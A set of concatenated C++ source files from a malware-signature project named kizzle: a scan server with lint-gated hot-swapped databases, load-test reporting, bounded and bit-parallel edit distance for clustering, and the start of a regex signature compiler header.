  std::uint64_t one_shot = 0;
  std::uint64_t stream = 0;
  std::uint64_t matched = 0;
  // Typed kOverloaded rejections (expected under deliberate overload; the
  // request was shed at the edge, not lost).
  std::uint64_t shed = 0;
  // Anything that violates the service contract for an accepted request:
  // a completion that never arrived, a non-kOk completion status, or a
  // mid-run kShuttingDown. The soak asserts this stays zero across swaps.
  std::uint64_t failed = 0;
  std::uint64_t deadline_expired = 0;  // kOk completions past their budget
  support::LatencyHistogram latency;   // submit→completion, nanoseconds

  double rps() const {
    return seconds > 0 ? static_cast<double>(completed) / seconds : 0.0;
  }
};

// Replays `docs` against `server` per the config and returns the merged
// report. Blocks for ~cfg.duration; the server is left running.
LoadReport run_load(ScanServer& server, const std::vector<CorpusDoc>& docs,
                    const LoadConfig& cfg);

}  // namespace kizzle::serve
