// kizzle serve — the asynchronous scan service.
//
// Everything below this directory exists because a signature compiler
// that re-releases faster than kits mutate (the paper's premise) only
// pays off when the scanner runs as a *fleet service* in front of live
// traffic: sustained mixed request streams, tail-latency budgets, and
// signature databases that are replaced underneath running scans. The
// engine already provides the per-scan building blocks — immutable
// engine::Database, per-worker Scratch, per-request ScanLimits deadlines,
// typed ScanOutcome — and this layer composes them into a server.
//
// ------------------------------ queueing model ------------------------------
//
// ScanServer is thread-per-core: `workers` threads (default: hardware
// concurrency), each holding one warm engine::ScratchPool handle for its
// whole life, all popping one bounded MPMC queue
// (support/mpmc_queue.h). Dequeue is *batched*: a worker takes up to
// `batch_max` jobs in one critical section and resolves the current
// database epoch once per batch, so per-request dispatch overhead
// (queue lock, epoch load) is amortized across the batch exactly like
// Scanner::scan_batch amortizes scan setup.
//
// Two request shapes ride the same queue:
//
//   one-shot   submit(text, done): the whole normalized document at once.
//   stream     open_stream(): a session whose feed()/finish() calls are
//              enqueued as work and executed in arrival order on the
//              workers (an actor: at most one scheduling token per session
//              is ever in the queue, so chunk processing is serialized
//              without dedicating a worker to the stream).
//
// ------------------------------ shed-load policy ----------------------------
//
// Admission control is edge-based and typed — the server *never* queues
// unboundedly and never throws for overload:
//
//   queue depth   try_push on the bounded queue; a full queue rejects the
//                 request right at submit() with kOverloaded.
//   enqueue age   jobs carry their submit timestamp; a worker that pops a
//                 request older than `max_queue_age` completes it as
//                 kOverloaded without scanning (stale work is the first
//                 thing to shed under a backlog — its submitter has
//                 usually timed out already).
//   stream ops    per-session pending-op cap (`stream_pending_max`), so a
//                 producer feeding faster than workers drain cannot grow a
//                 session's buffer without bound.
//   deadlines     per-request ScanLimits; a relative wall budget is
//                 re-anchored at *submit* time to an absolute
//                 ScanLimits.deadline, so time spent queued counts against
//                 the request's budget and an expired request is answered
//                 (kDeadlineExpired) without scanning.
//
// ------------------------------ epoch lifecycle -----------------------------
//
// The database is held RCU-style: one shared_ptr<const engine::Database>
// per *epoch*, flipped atomically by deploy()/deploy_artifact()/
// deploy_delta() while readers keep scanning:
//
//   - one-shot scans resolve the epoch at batch start and scan against
//     that snapshot; the shared_ptr keeps the old database alive until
//     the last reader drops it — a swap never invalidates an in-flight
//     scan.
//   - streams pin their epoch at open_stream() and finish on it, no
//     matter how many swaps happen mid-stream (a stream's candidate
//     cursor is only meaningful against the automaton it was opened on).
//   - deploys are *gated*: unless lint_on_swap is off, the incoming
//     database/artifact runs the full `kizzle lint` analysis
//     (analyze/analyze.h — for artifacts that includes the
//     recompile-and-compare verification) and error-severity findings
//     refuse the flip. The rejection is typed (SwapResult) and counted
//     (ServerStats::swaps_rejected); the serving epoch is untouched.
//
// Incremental deploys ride the same lifecycle: deploy_delta() applies a
// `KZDELTA` artifact (core/sigdb.h) to the live epoch's database via
// engine::Database::extend — lint-gated by analyze_delta against the
// exact base it will extend, published only if that base is still the
// serving epoch (a concurrent full deploy refuses the delta as stale
// rather than silently applying it to the wrong lineage). Any error —
// corrupt bytes, wrong lineage, lint findings — is a typed refusal that
// leaves the serving epoch untouched: rollback is "never left".
//
// ArtifactWatcher is the `kizzle serve --watch` loop: it polls a path,
// sniffs the leading magic ("KZDELTAF" routes through deploy_delta(),
// anything else through deploy_artifact()), and deploys changed bytes
// through the lint-gated hot-swap, so a fleet worker picks up releases
// (atomically renamed into place) without a restart and without dropping
// a scan. Changes are *debounced*: a changed identity is re-stat'ed
// after a settle window and skipped — without being recorded as seen —
// while the size/mtime is still moving, so a slow non-atomic writer is
// simply retried at the next poll instead of half-read.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <iosfwd>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "engine/engine.h"
#include "engine/limits.h"
#include "support/mpmc_queue.h"

namespace kizzle::serve {

// How the server disposed of a request. Every submit/feed/finish returns
// one, and every accepted request's completion callback carries one —
// overload and shutdown are data, never exceptions.
enum class RequestStatus : std::uint8_t {
  kOk,            // scanned; see the ScanOutcome for the engine's verdict
  kOverloaded,    // shed: queue full, session buffer full, or stale on pop
  kShuttingDown,  // rejected: server stopping (or session already finished)
};

const char* request_status_name(RequestStatus s);

struct ServerConfig {
  std::size_t workers = 0;            // 0 = hardware concurrency
  std::size_t queue_capacity = 1024;  // bounded request queue
  // Shed requests that waited longer than this before a worker got to
  // them (0 = no age shedding).
  std::chrono::microseconds max_queue_age{0};
  std::size_t batch_max = 32;          // jobs per dequeue batch
  std::size_t stream_pending_max = 64; // per-session queued ops cap
  // Per-request envelope when the submitter does not pass one. A relative
  // wall_budget is re-anchored at submit time (queueing counts).
  engine::ScanLimits default_limits;
  // Lint-verify every deploy and refuse the epoch flip on error-severity
  // findings (the `kizzle lint` gate applied to the hot-swap path).
  bool lint_on_swap = true;
};

// Completion of one accepted request. Signature data is copied out of the
// database (name/family strings), so the response stays valid after the
// serving epoch is retired.
struct ScanResponse {
  RequestStatus status = RequestStatus::kOk;
  engine::ScanOutcome outcome;
  bool matched = false;
  std::size_t sig_index = 0;    // valid when matched
  std::string signature;        // matching signature name (copy)
  std::size_t match_begin = 0;
  std::size_t match_end = 0;
  std::uint64_t epoch = 0;      // database epoch that served the scan
};

using ResponseFn = std::function<void(ScanResponse)>;

// Monotonic counters, snapshot via ScanServer::stats().
struct ServerStats {
  std::uint64_t submitted = 0;         // accepted one-shot requests
  std::uint64_t completed = 0;         // one-shot + finished streams scanned
  std::uint64_t matched = 0;
  std::uint64_t shed_queue_full = 0;   // rejected at submit/feed (depth)
  std::uint64_t shed_stale = 0;        // completed kOverloaded on age
  std::uint64_t rejected_shutdown = 0;
  std::uint64_t deadline_expired = 0;  // outcomes with kDeadlineExpired
  std::uint64_t streams_opened = 0;
  std::uint64_t streams_completed = 0;
  std::uint64_t batches = 0;           // dequeue batches
  std::uint64_t batched_jobs = 0;      // jobs across those batches
  std::uint64_t epoch_swaps = 0;       // accepted deploys
  std::uint64_t swaps_rejected = 0;    // lint/parse-refused deploys
};

class ScanServer {
 public:
  explicit ScanServer(std::shared_ptr<const engine::Database> db,
                      ServerConfig cfg = {});
  ~ScanServer();

  ScanServer(const ScanServer&) = delete;
  ScanServer& operator=(const ScanServer&) = delete;

  // ------------------------------ one-shot ------------------------------

  // Scans `normalized_text` (already-normalized scan text) against the
  // epoch current when a worker picks the request up. Returns kOk when
  // admitted — `done` then runs exactly once, on a worker thread — or a
  // typed rejection, in which case `done` is never invoked.
  RequestStatus submit(std::string normalized_text, ResponseFn done);
  RequestStatus submit(std::string normalized_text,
                       const engine::ScanLimits& limits, ResponseFn done);

  // ------------------------------ streams -------------------------------

  // Client handle for chunked input. The session pins the epoch current at
  // open_stream() and finishes on it regardless of intervening swaps.
  // feed()/finish() are asynchronous (executed in order on the workers);
  // finish() may be called at most once, after which further calls are
  // rejected kShuttingDown. Dropping the handle without finish() abandons
  // the session (its queued chunks are still drained, then discarded).
  class Stream {
   public:
    Stream() = default;
    RequestStatus feed(std::string normalized_chunk);
    RequestStatus finish(ResponseFn done);
    std::uint64_t epoch() const;

   private:
    friend class ScanServer;
    struct Session;
    explicit Stream(std::shared_ptr<Session> session)
        : session_(std::move(session)) {}
    std::shared_ptr<Session> session_;
  };

  Stream open_stream();
  Stream open_stream(const engine::ScanLimits& limits);

  // ------------------------------ epochs --------------------------------

  std::uint64_t epoch() const { return epoch_.load(std::memory_order_acquire); }
  std::shared_ptr<const engine::Database> database() const;

  struct SwapResult {
    bool accepted = false;
    std::uint64_t epoch = 0;   // serving epoch after the call
    std::string reason;        // why a deploy was refused
  };

  // Lint-gates (per config) and atomically publishes a new epoch.
  SwapResult deploy(std::shared_ptr<const engine::Database> db);
  // Same, from `.kpf` artifact bytes: the artifact is lint-verified
  // (including recompile-and-compare) before it is loaded for serving.
  // Malformed artifacts are refused (typed reason), never thrown.
  SwapResult deploy_artifact(std::istream& artifact);
  // Incremental deploy from `KZDELTA` bytes: parses the delta, lint-gates
  // it with analyze_delta against the live database (per config), applies
  // it via engine::Database::extend (only the added signatures compile),
  // and publishes the result — but only if the serving epoch still holds
  // the base the delta was applied to; a concurrent swap refuses it as
  // stale. Every failure is a typed refusal (SwapResult.reason) with the
  // serving epoch untouched.
  SwapResult deploy_delta(std::istream& delta);

  // ------------------------------ lifecycle -----------------------------

  // Blocks until every admitted job (including queued session ops) has
  // completed. New submissions during a drain are still admitted.
  void drain();

  // Stops admission, drains what was already accepted, joins the workers.
  // Idempotent; the destructor calls it.
  void stop();

  ServerStats stats() const;
  const ServerConfig& config() const { return cfg_; }
  std::size_t worker_count() const { return workers_.size(); }

 private:
  struct OneShot {
    std::string text;
    engine::ScanLimits limits;
    std::chrono::steady_clock::time_point enqueued;
    ResponseFn done;
  };

  // Queue element: exactly one of the two is set. A default-constructed
  // Job is the ring buffer's empty slot.
  struct Job {
    std::unique_ptr<OneShot> one_shot;
    std::shared_ptr<Stream::Session> session;
  };

  struct Counters;  // atomic mirror of ServerStats

  void worker_loop();
  void run_one_shot(OneShot& req,
                    const std::shared_ptr<const engine::Database>& db,
                    std::uint64_t db_epoch, engine::Scratch& scratch);
  void run_session(const std::shared_ptr<Stream::Session>& session);
  RequestStatus enqueue_op(const std::shared_ptr<Stream::Session>& session,
                           bool is_finish, std::string chunk, ResponseFn done);
  SwapResult publish(std::shared_ptr<const engine::Database> db);
  engine::ScanLimits effective_limits(
      const engine::ScanLimits& requested,
      std::chrono::steady_clock::time_point enqueued) const;
  void job_admitted();
  void job_done();

  ServerConfig cfg_;
  support::BoundedMpmcQueue<Job> queue_;

  // The serving epoch: pointer + counter move together under epoch_mu_;
  // epoch_ is additionally atomic so epoch() is a wait-free read.
  mutable std::mutex epoch_mu_;
  std::shared_ptr<const engine::Database> db_;
  std::atomic<std::uint64_t> epoch_{1};

  engine::ScratchPool scratches_;
  std::vector<std::thread> workers_;
  std::atomic<bool> stopping_{false};

  // Drain accounting: jobs admitted but not yet fully processed.
  mutable std::mutex drain_mu_;
  std::condition_variable drain_cv_;
  std::size_t in_flight_ = 0;

  std::unique_ptr<Counters> counters_;
};

// ------------------------------- watcher --------------------------------

// The `kizzle serve --watch` loop: polls an artifact path and deploys it
// through the server's lint-gated hot-swap when its (mtime, size)
// identity changes — full `.kpf` bundles via deploy_artifact(), `KZDELTA`
// deltas (sniffed by leading magic) via deploy_delta(). Release processes
// are expected to rename complete artifacts into place (the smoke script
// does); for writers that stream bytes in place instead, a changed
// identity is debounced: after `settle` the file is re-stat'ed
// (nanosecond mtime resolution where the platform provides it) and a
// still-moving identity is skipped *without* being recorded as seen, so
// the next poll retries once the writer finishes. A complete-but-bad file
// still simply fails verification, is counted as rejected, and is not
// retried until the file changes again.
class ArtifactWatcher {
 public:
  struct Stats {
    std::uint64_t swaps = 0;      // accepted deploys
    std::uint64_t rejected = 0;   // lint/parse refusals
  };

  // `settle` < 0 (default) derives the debounce window from the poll
  // interval; 0 disables debouncing (change identities deploy on first
  // sight, as before).
  ArtifactWatcher(ScanServer& server, std::string path,
                  std::chrono::milliseconds poll_interval,
                  std::chrono::milliseconds settle =
                      std::chrono::milliseconds(-1));
  ~ArtifactWatcher();

  void stop();
  Stats stats() const;

 private:
  void loop();
  bool try_deploy();

  ScanServer& server_;
  std::string path_;
  std::chrono::milliseconds poll_;
  std::chrono::milliseconds settle_;
  std::atomic<bool> stopping_{false};
  mutable std::mutex mu_;
  std::condition_variable cv_;
  Stats stats_;
  // Identity of the last attempted (deployed or refused) file state;
  // mtime in nanoseconds where the platform exposes them.
  std::int64_t seen_mtime_ = -1;
  std::uint64_t seen_size_ = 0;
  bool primed_ = false;
  std::thread thread_;
};

}  // namespace kizzle::serve
