// Edit distance over interned token streams (paper §III.A).
//
// DBSCAN clusters samples "using the edit distance between token strings as
// a means of determining the distance between any two samples", with a
// normalized threshold of 0.10. Computing full Levenshtein for every pair
// is infeasible at stream scale, so three layers keep it cheap:
//
//   1. length bound:     lev(a,b) >= | |a| - |b| |
//   2. histogram bound:  lev(a,b) >= ceil(L1(hist_a, hist_b) / 2)
//   3. bit-parallel DP:  Myers/Hyyro bit-vector columns (bitparallel.h)
//                        with an early cutoff once the distance provably
//                        exceeds the threshold; the scalar banded DP
//                        (Ukkonen, O(min * limit)) remains as the
//                        reference implementation and as the fallback for
//                        patterns whose alphabet overflows the bit-vector
//                        symbol mapping.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

namespace kizzle::dist {

using Sym = std::uint32_t;

// Exact Levenshtein distance (insert/delete/substitute, unit costs).
// Scalar row DP; kept as the oracle the bit-parallel paths are tested
// against.
std::size_t edit_distance(std::span<const Sym> a, std::span<const Sym> b);

// Threshold-limited distance: returns the exact distance when it is
// <= limit, and exactly limit + 1 when the true distance exceeds limit.
// Routed through the bit-parallel matcher; falls back to the scalar
// banded DP for degenerate inputs or oversized alphabets.
std::size_t edit_distance_bounded(std::span<const Sym> a,
                                  std::span<const Sym> b, std::size_t limit);

// The scalar banded implementation (Ukkonen, O(min(|a|,|b|) * limit)).
// Same contract as edit_distance_bounded; exposed for tests and as the
// fallback when BitMatcher::ok() is false.
std::size_t edit_distance_bounded_reference(std::span<const Sym> a,
                                            std::span<const Sym> b,
                                            std::size_t limit);

// Distance normalized by max(|a|, |b|); 0.0 when both are empty.
double normalized_edit_distance(std::span<const Sym> a,
                                std::span<const Sym> b);

// The largest integer distance d such that
//   double(d) / double(longest) <= eps,
// clamped to [0, longest]; requires eps >= 0 and longest > 0.
//
// This is THE threshold both clustering predicates share. The naive
// size_t(eps * longest) disagrees with `normalized_edit_distance <= eps`
// at fractional boundaries: eps * longest can round just below an
// integer (e.g. 0.3 * 10 == 2.9999999999999996), so flooring it loses a
// unit that the normalized comparison would admit. Every caller that
// converts eps into an integer DP limit must go through this helper so
// within_normalized, TokenDbscan, and the reduce-phase medoid merge all
// agree with the normalized predicate bit-for-bit.
std::size_t normalized_limit(double eps, std::size_t longest);

// True iff normalized_edit_distance(a, b) <= eps, computed with the
// threshold-limited distance (cheap for the common reject case).
bool within_normalized(std::span<const Sym> a, std::span<const Sym> b,
                       double eps);

// Sparse symbol histogram used as a pre-filter before the DP.
class SymbolHistogram {
 public:
  SymbolHistogram() = default;
  static SymbolHistogram of(std::span<const Sym> stream);

  std::size_t total() const { return total_; }

  // L1 distance between the two count vectors.
  std::size_t l1_distance(const SymbolHistogram& other) const;

 private:
  std::vector<std::pair<Sym, std::uint32_t>> counts_;  // sorted by symbol
  std::size_t total_ = 0;
};

// A cheap lower bound on lev(a, b) given the precomputed histograms:
//   max(| |a|-|b| |, ceil(L1 / 2)).
// Every edit operation changes the histogram L1 by at most 2.
std::size_t edit_distance_lower_bound(const SymbolHistogram& ha,
                                      const SymbolHistogram& hb,
                                      std::size_t len_a, std::size_t len_b);

}  // namespace kizzle::dist
