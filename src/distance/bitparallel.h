// Bit-parallel bounded edit distance (Myers 1999, in the edit-distance
// formulation of Hyyro 2003).
//
// The clustering hot loop computes millions of threshold-limited
// Levenshtein distances between interned token streams. The scalar banded
// DP in edit_distance.cpp pays one branchy min-chain per cell; the
// bit-vector formulation packs 64 DP rows into one machine word and
// advances a whole column with ~17 bit operations, tracking only the
// score of the last row plus the vertical/horizontal delta vectors.
//
// BitMatcher is built once per pattern stream and reused against many
// candidate texts (the neighbor-graph build compares each point against a
// whole window of length-compatible candidates), so the per-pattern setup
// (symbol -> bit-mask table) is amortized. The `eps * longest` cutoff is
// enforced with an early-abandon rule: the last-row score can decrease by
// at most 1 per remaining column, so once
//   score > limit + columns_remaining
// the distance provably exceeds the limit and the scan stops.
//
// Alphabet handling: token symbols are arbitrary interned uint32 ids, so
// the per-pattern Eq masks live behind a small open-addressing table.
// Patterns with more than kMaxAlphabet distinct symbols do not get a
// table (ok() returns false) and callers must fall back to the scalar
// banded DP (dist::edit_distance_bounded_reference).
#pragma once

#include <cstdint>
#include <span>
#include <vector>

namespace kizzle::dist {

using Sym = std::uint32_t;

class BitMatcher {
 public:
  // Distinct-symbol cap for the Eq table; above this the matcher refuses
  // (ok() == false) and callers use the scalar reference DP.
  static constexpr std::size_t kMaxAlphabet = 2048;

  explicit BitMatcher(std::span<const Sym> pattern);

  // False when the pattern's alphabet overflows the bit-vector mapping;
  // bounded() must not be called in that case.
  bool ok() const { return ok_; }

  std::size_t pattern_length() const { return m_; }

  // Exact edit distance between the pattern and `text` when it is
  // <= limit, exactly limit + 1 otherwise. Matches the contract of
  // dist::edit_distance_bounded. Reuses internal scratch buffers, so a
  // BitMatcher must not be shared across threads concurrently.
  std::size_t bounded(std::span<const Sym> text, std::size_t limit) const;

 private:
  static constexpr std::uint32_t kEmpty = 0xFFFFFFFFu;

  std::uint32_t lookup(Sym s) const;

  std::size_t m_ = 0;      // pattern length (rows)
  std::size_t words_ = 0;  // ceil(m_ / 64)
  bool ok_ = true;

  // Open-addressing symbol table: sym -> row index into eq_.
  std::vector<Sym> slot_sym_;
  std::vector<std::uint32_t> slot_row_;
  std::size_t table_mask_ = 0;

  std::vector<std::uint64_t> eq_;     // distinct x words_ position masks
  std::vector<std::uint64_t> zeros_;  // all-zero Eq row for unseen symbols

  // Column state scratch for the blocked (multi-word) case.
  mutable std::vector<std::uint64_t> pv_;
  mutable std::vector<std::uint64_t> mv_;
};

}  // namespace kizzle::dist
