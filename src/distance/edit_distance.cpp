#include "distance/edit_distance.h"

#include <algorithm>
#include <cstdlib>
#include <limits>

#include "distance/bitparallel.h"

namespace kizzle::dist {

std::size_t edit_distance(std::span<const Sym> a, std::span<const Sym> b) {
  if (a.size() > b.size()) std::swap(a, b);  // a is the shorter
  const std::size_t n = a.size();
  const std::size_t m = b.size();
  if (n == 0) return m;
  std::vector<std::size_t> row(n + 1);
  for (std::size_t i = 0; i <= n; ++i) row[i] = i;
  for (std::size_t j = 1; j <= m; ++j) {
    std::size_t prev_diag = row[0];
    row[0] = j;
    for (std::size_t i = 1; i <= n; ++i) {
      const std::size_t sub = prev_diag + (a[i - 1] == b[j - 1] ? 0 : 1);
      prev_diag = row[i];
      row[i] = std::min({row[i] + 1, row[i - 1] + 1, sub});
    }
  }
  return row[n];
}

std::size_t edit_distance_bounded(std::span<const Sym> a,
                                  std::span<const Sym> b, std::size_t limit) {
  if (a.size() > b.size()) std::swap(a, b);  // a is the shorter
  if (b.size() - a.size() > limit) return limit + 1;
  if (a.empty()) return b.size();
  // Tiny streams: the one-off BitMatcher setup costs more than the DP.
  if (a.size() >= 8) {
    const BitMatcher matcher(a);
    if (matcher.ok()) return matcher.bounded(b, limit);
  }
  return edit_distance_bounded_reference(a, b, limit);
}

std::size_t edit_distance_bounded_reference(std::span<const Sym> a,
                                            std::span<const Sym> b,
                                            std::size_t limit) {
  if (a.size() > b.size()) std::swap(a, b);
  const std::size_t n = a.size();
  const std::size_t m = b.size();
  if (m - n > limit) return limit + 1;
  if (n == 0) return m;  // m <= limit here
  // Band of half-width `limit` around the diagonal. Cells outside the band
  // are treated as infinity.
  constexpr std::size_t kInf = std::numeric_limits<std::size_t>::max() / 2;
  std::vector<std::size_t> row(n + 1, kInf);
  for (std::size_t i = 0; i <= std::min(n, limit); ++i) row[i] = i;
  for (std::size_t j = 1; j <= m; ++j) {
    // Band in row-coordinates: i in [j - limit, j + limit], clamped.
    const std::size_t lo = (j > limit) ? j - limit : 0;
    const std::size_t hi = std::min(n, j + limit);
    if (lo > n) return limit + 1;
    std::size_t prev_diag = (lo == 0) ? (j - 1) : row[lo - 1];
    std::size_t row_min = kInf;
    if (lo == 0) {
      row[0] = j;
      row_min = j;
    }
    // Cell just left of the band must not leak stale values.
    if (lo >= 1) row[lo - 1] = kInf;
    for (std::size_t i = std::max<std::size_t>(lo, 1); i <= hi; ++i) {
      const std::size_t sub = prev_diag + (a[i - 1] == b[j - 1] ? 0 : 1);
      prev_diag = row[i];
      const std::size_t del = (row[i] == kInf) ? kInf : row[i] + 1;
      const std::size_t ins = (row[i - 1] == kInf) ? kInf : row[i - 1] + 1;
      row[i] = std::min({del, ins, sub});
      row_min = std::min(row_min, row[i]);
    }
    if (hi < n) row[hi + 1] = kInf;  // right edge of the band
    if (row_min > limit) return limit + 1;
  }
  return std::min(row[n], limit + 1);
}

double normalized_edit_distance(std::span<const Sym> a,
                                std::span<const Sym> b) {
  const std::size_t longest = std::max(a.size(), b.size());
  if (longest == 0) return 0.0;
  // The distance never exceeds max(|a|, |b|), so the bounded (bit-parallel)
  // path with limit = longest is exact.
  return static_cast<double>(edit_distance_bounded(a, b, longest)) /
         static_cast<double>(longest);
}

std::size_t normalized_limit(double eps, std::size_t longest) {
  std::size_t d = static_cast<std::size_t>(
      std::max(0.0, eps) * static_cast<double>(longest));
  if (d > longest) d = longest;
  // Nudge across any floating-point boundary so the integer limit agrees
  // exactly with the `double(d) / longest <= eps` predicate.
  while (d > 0 && static_cast<double>(d) / static_cast<double>(longest) > eps) {
    --d;
  }
  while (d < longest &&
         static_cast<double>(d + 1) / static_cast<double>(longest) <= eps) {
    ++d;
  }
  return d;
}

bool within_normalized(std::span<const Sym> a, std::span<const Sym> b,
                       double eps) {
  const std::size_t longest = std::max(a.size(), b.size());
  if (longest == 0) return true;
  if (eps < 0.0) return false;
  const std::size_t limit = normalized_limit(eps, longest);
  return edit_distance_bounded(a, b, limit) <= limit;
}

SymbolHistogram SymbolHistogram::of(std::span<const Sym> stream) {
  SymbolHistogram h;
  h.total_ = stream.size();
  std::vector<Sym> sorted(stream.begin(), stream.end());
  std::sort(sorted.begin(), sorted.end());
  for (std::size_t i = 0; i < sorted.size();) {
    std::size_t j = i;
    while (j < sorted.size() && sorted[j] == sorted[i]) ++j;
    h.counts_.emplace_back(sorted[i], static_cast<std::uint32_t>(j - i));
    i = j;
  }
  return h;
}

std::size_t SymbolHistogram::l1_distance(const SymbolHistogram& other) const {
  std::size_t l1 = 0;
  std::size_t i = 0;
  std::size_t j = 0;
  while (i < counts_.size() && j < other.counts_.size()) {
    if (counts_[i].first < other.counts_[j].first) {
      l1 += counts_[i++].second;
    } else if (counts_[i].first > other.counts_[j].first) {
      l1 += other.counts_[j++].second;
    } else {
      const auto a = counts_[i++].second;
      const auto b = other.counts_[j++].second;
      l1 += (a > b) ? a - b : b - a;
    }
  }
  for (; i < counts_.size(); ++i) l1 += counts_[i].second;
  for (; j < other.counts_.size(); ++j) l1 += other.counts_[j].second;
  return l1;
}

std::size_t edit_distance_lower_bound(const SymbolHistogram& ha,
                                      const SymbolHistogram& hb,
                                      std::size_t len_a, std::size_t len_b) {
  const std::size_t len_diff = (len_a > len_b) ? len_a - len_b : len_b - len_a;
  const std::size_t hist = (ha.l1_distance(hb) + 1) / 2;
  return std::max(len_diff, hist);
}

}  // namespace kizzle::dist
