#include "distance/bitparallel.h"

#include <algorithm>

#include "support/hash.h"

namespace kizzle::dist {

namespace {

std::size_t next_pow2(std::size_t v) {
  std::size_t p = 8;
  while (p < v) p <<= 1;
  return p;
}

std::size_t hash_sym(Sym s) {
  // Full-avalanche mix so interned ids spread over the table.
  return static_cast<std::size_t>(splitmix64_mix(s));
}

}  // namespace

BitMatcher::BitMatcher(std::span<const Sym> pattern)
    : m_(pattern.size()), words_((pattern.size() + 63) / 64) {
  if (m_ == 0) return;
  const std::size_t table_size = next_pow2(2 * m_);
  table_mask_ = table_size - 1;
  slot_sym_.assign(table_size, 0);
  slot_row_.assign(table_size, kEmpty);
  std::uint32_t distinct = 0;
  // First pass: assign a row to each distinct symbol, in pattern order.
  std::vector<std::uint32_t> row_of(m_);
  for (std::size_t i = 0; i < m_; ++i) {
    const Sym s = pattern[i];
    std::size_t h = hash_sym(s) & table_mask_;
    while (slot_row_[h] != kEmpty && slot_sym_[h] != s) {
      h = (h + 1) & table_mask_;
    }
    if (slot_row_[h] == kEmpty) {
      if (distinct == kMaxAlphabet) {
        ok_ = false;
        return;
      }
      slot_sym_[h] = s;
      slot_row_[h] = distinct++;
    }
    row_of[i] = slot_row_[h];
  }
  eq_.assign(static_cast<std::size_t>(distinct) * words_, 0);
  for (std::size_t i = 0; i < m_; ++i) {
    eq_[static_cast<std::size_t>(row_of[i]) * words_ + i / 64] |=
        1ull << (i % 64);
  }
  zeros_.assign(words_, 0);
  pv_.resize(words_);
  mv_.resize(words_);
}

std::uint32_t BitMatcher::lookup(Sym s) const {
  std::size_t h = hash_sym(s) & table_mask_;
  while (slot_row_[h] != kEmpty) {
    if (slot_sym_[h] == s) return slot_row_[h];
    h = (h + 1) & table_mask_;
  }
  return kEmpty;
}

std::size_t BitMatcher::bounded(std::span<const Sym> text,
                                std::size_t limit) const {
  const std::size_t n = text.size();
  const std::size_t diff = (m_ > n) ? m_ - n : n - m_;
  if (diff > limit) return limit + 1;
  if (m_ == 0) return n;  // n <= limit by the diff check
  if (n == 0) return m_;

  std::size_t score = m_;
  if (words_ == 1) {
    // Single-word Hyyro: D[i][0] = i via Pv = all-ones, D[0][j] = j via the
    // +1 shifted into Ph each column.
    std::uint64_t Pv = ~0ull;
    std::uint64_t Mv = 0;
    const std::uint64_t last = 1ull << (m_ - 1);
    for (std::size_t j = 0; j < n; ++j) {
      const std::uint32_t row = lookup(text[j]);
      const std::uint64_t Eq = (row == kEmpty) ? 0 : eq_[row];
      const std::uint64_t Xv = Eq | Mv;
      const std::uint64_t Xh = (((Eq & Pv) + Pv) ^ Pv) | Eq;
      std::uint64_t Ph = Mv | ~(Xh | Pv);
      std::uint64_t Mh = Pv & Xh;
      if (Ph & last) {
        ++score;
      } else if (Mh & last) {
        --score;
      }
      Ph = (Ph << 1) | 1;
      Mh <<= 1;
      Pv = Mh | ~(Xv | Ph);
      Mv = Ph & Xv;
      if (score > limit + (n - j - 1)) return limit + 1;
    }
  } else {
    // Blocked variant: horizontal +/-1 deltas carried between words.
    std::fill(pv_.begin(), pv_.end(), ~0ull);
    std::fill(mv_.begin(), mv_.end(), 0ull);
    const std::size_t last_word = words_ - 1;
    const std::uint64_t last_bit = 1ull << ((m_ - 1) % 64);
    for (std::size_t j = 0; j < n; ++j) {
      const std::uint32_t row = lookup(text[j]);
      const std::uint64_t* eq_row =
          (row == kEmpty) ? zeros_.data()
                          : &eq_[static_cast<std::size_t>(row) * words_];
      int hin = 1;  // D[0][j] - D[0][j-1] = +1
      for (std::size_t b = 0; b < words_; ++b) {
        std::uint64_t Eq = eq_row[b];
        const std::uint64_t Pv = pv_[b];
        const std::uint64_t Mv = mv_[b];
        const std::uint64_t Xv = Eq | Mv;
        if (hin < 0) Eq |= 1;  // diagonal carry for a negative input delta
        const std::uint64_t Xh = (((Eq & Pv) + Pv) ^ Pv) | Eq;
        std::uint64_t Ph = Mv | ~(Xh | Pv);
        std::uint64_t Mh = Pv & Xh;
        if (b == last_word) {
          if (Ph & last_bit) {
            ++score;
          } else if (Mh & last_bit) {
            --score;
          }
        }
        int hout = 0;
        if (Ph >> 63) {
          hout = 1;
        } else if (Mh >> 63) {
          hout = -1;
        }
        Ph <<= 1;
        Mh <<= 1;
        if (hin > 0) {
          Ph |= 1;
        } else if (hin < 0) {
          Mh |= 1;
        }
        pv_[b] = Mh | ~(Xv | Ph);
        mv_[b] = Ph & Xv;
        hin = hout;
      }
      if (score > limit + (n - j - 1)) return limit + 1;
    }
  }
  return (score <= limit) ? score : limit + 1;
}

}  // namespace kizzle::dist
