// The signature compiler (paper §III.C): packed samples of a malicious
// cluster in, one AV-deployable regular-expression signature out.
//
// Pipeline:
//   1. tokenize each sample, abstract to the clustering alphabet;
//   2. find the longest common token window (<= 200 tokens) unique in
//      every sample (common_window.h);
//   3. align samples on the window and collect the distinct concrete
//      values at every token offset (quotes stripped, per AV
//      normalization);
//   4. emit, token by token: a literal when all samples agree, a named
//      group over a synthesized character class when they differ, and a
//      backreference when a column repeats an earlier column's values in
//      every sample (the paper's templatized variable names, Fig 10a);
//   5. verify the compiled signature matches every input sample
//      (soundness check) before releasing it.
#pragma once

#include <span>
#include <string>
#include <vector>

#include "text/abstraction.h"
#include "text/token.h"

namespace kizzle::sig {

struct CompilerParams {
  std::size_t max_tokens = 200;  // paper's cap
  std::size_t min_tokens = 10;   // "short sequences are discarded"
  text::Abstraction abstraction = text::Abstraction::KeywordsAndPunct;
  bool verify = true;  // check the signature matches its own samples
  // Length slack for synthesized classes (see synthesis.h). 0 reproduces
  // the paper's exact Fig 9 output; production pipelines with small
  // clusters should use ~0.1-0.15.
  double length_slack = 0.0;
  // Literal columns longer than this are converted to character classes
  // (with slack-widened length bounds): multi-kilobyte encoded-payload
  // strings would otherwise dominate the signature and break on every
  // payload churn. SIZE_MAX disables the conversion (paper-exact).
  std::size_t max_literal_run = SIZE_MAX;
};

struct Column {
  bool is_literal = false;
  std::string literal;                // valid when is_literal
  std::vector<std::string> values;    // distinct values when variable
  int group = -1;                     // named group index (varN), -1 none
  int backref_of = -1;                // column index this one repeats
};

struct Signature {
